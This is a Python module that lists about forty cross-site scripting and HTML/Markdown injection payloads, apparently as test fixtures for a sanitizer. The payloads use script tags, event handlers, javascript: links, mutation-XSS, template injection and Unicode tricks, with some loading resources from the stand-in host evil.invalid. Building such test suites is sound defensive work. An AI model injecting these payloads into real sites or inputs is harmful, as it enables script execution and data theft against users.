"""Text that tries to become more than text: each would set `window.__x`, fetch from evil.invalid, or change the page."""

from __future__ import annotations

_RAW = (
    # Elements that run something
    "<script>RUN</script>",
    "<ScRiPt/x>RUN</sCrIpT >",
    '<img src=x onerror="RUN">',
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>",
    '<svg><a xlink:href="javascript:RUN"><text y=20>go</text></a></svg>',
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<details open ontoggle=RUN><summary>go</summary></details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<object data="javascript:RUN"></object><embed src="javascript:RUN">',
    '<form action="javascript:RUN"><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:RUN"><base href="http://evil.invalid/">',
    # Links
    '<a href="javascript:RUN">go</a>',
    '<a href=" java&#9;script&colon;RUN">go</a>',
    '<a href="data:text/html,<script>opener.RUN</script>">go</a>',
    # Style
    '<link rel=stylesheet href="http://evil.invalid/x.css">',
    '<style>@import "http://evil.invalid/x.css";#main{display:none}</style>',
    '<div style="background:url(http://evil.invalid/x.png);position:fixed;inset:0">cover</div>',
    # Out of where text stands
    '"><img src=x onerror=RUN>',
    "' autofocus onfocus='RUN' x='",
    "</textarea></title></style></script>--><img src=x onerror=RUN>",
    "]]></text></svg><img src=x onerror=RUN>",
    # Text that changes when it is parsed a second time
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "<template><script>RUN</script></template>",
    "&lt;img src=x onerror=RUN&gt;",
    "\\u003cimg src=x onerror=RUN\\u003e%3Cimg src=x onerror=RUN%3E",
    # Templates
    "${RUN}{{RUN}}{{constructor.constructor('RUN')()}}<%= RUN %>#{RUN}",
    "{{{value}}}{{#each this}}<img src=x onerror=RUN>{{/each}}",
    # Markdown
    "![x](http://evil.invalid/x.png)",
    "[go](javascript:RUN) [1](javascript:RUN) <http://evil.invalid/>",
    "[go][r] ![i][r]\n\n[r]: javascript:RUN",
    "```html\n</code></pre><img src=x onerror=RUN>\n```\n````\n```\n<script>RUN</script>\n````",
    "`</code><img src=x onerror=RUN>` **<img src=x onerror=RUN>** _<b onclick=RUN>go</b>_",
    "| <img src=x onerror=RUN> | `|` |\n| --- | --- |\n| <script>RUN</script> | [go](javascript:RUN) |",
    "# <img src=x onerror=RUN>\n> <script>RUN</script>\n- <svg/onload=RUN>\n1. <svg/onload=RUN>",
    # Characters
    "\u202e<script>RUN</script>\u202c \u2066<img src=x onerror=RUN>\u2069",
    "＜script＞RUN＜/script＞ ‹img src=x onerror=RUN›",
    "<\u200bscript>RUN</script> <img\u2028src=x\u2029onerror=RUN>",
)

PAYLOADS = tuple(text.replace("RUN", f"window.__x={number}") for number, text in enumerate(_RAW, 1))
LINES = tuple(" ".join(text.split()) for text in PAYLOADS)
"""The same on one line each, as names are."""
